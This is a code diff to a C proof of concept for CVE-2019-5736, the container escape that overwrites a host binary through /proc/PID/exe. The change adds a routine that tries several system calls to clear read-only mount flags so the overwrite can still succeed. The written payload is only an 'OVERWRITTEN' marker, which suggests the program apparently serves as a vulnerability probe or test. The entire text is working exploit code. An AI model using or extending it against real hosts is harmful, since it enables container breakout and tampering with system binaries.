@@ -1,6 +1,7 @@
 /*
  * Waits for a process that executes another file than this one's own, opens that file by way of /proc/PID/exe, and
- * overwrites its beginning as soon as nobody executes it any more (CVE-2019-5736).
+ * overwrites its beginning as soon as nobody executes it any more (CVE-2019-5736). Should the mount that it is on be
+ * read-only, it first asks the kernel in every way to make it writable.
  */
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -9,7 +10,10 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <linux/mount.h>
+#include <sys/mount.h>
 #include <sys/stat.h>
+#include <sys/syscall.h>
 #include <unistd.h>
 
 static int strange(void)
@@ -38,6 +42,22 @@ static int strange(void)
 	}
 }
 
+/* Nothing of it may help, so nothing is checked. */
+static void make_writable(int fd, const char *path)
+{
+	struct mount_attr writable = { .attr_clr = MOUNT_ATTR_RDONLY };
+	int copy;
+
+	syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &writable, sizeof(writable));
+	mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL);
+	mount(NULL, path, NULL, MS_REMOUNT, NULL);
+	copy = syscall(SYS_open_tree, fd, "", OPEN_TREE_CLONE | AT_EMPTY_PATH);
+	if (copy >= 0) {
+		syscall(SYS_mount_setattr, copy, "", AT_EMPTY_PATH, &writable, sizeof(writable));
+		dup2(copy, fd);
+	}
+}
+
 int main(void)
 {
 	char path[64], link[256] = "";
@@ -54,6 +74,10 @@ int main(void)
 		if (writing >= 0 || errno != ETXTBSY)
 			break;
 		usleep(1000);
+	}
+	if (writing < 0 && errno == EROFS) {
+		make_writable(fd, path);
+		writing = open(path, O_WRONLY);
 	}
 	if (writing >= 0 && write(writing, "OVERWRITTEN", 11) == 11)
 		puts("end: OVERWRITTEN");
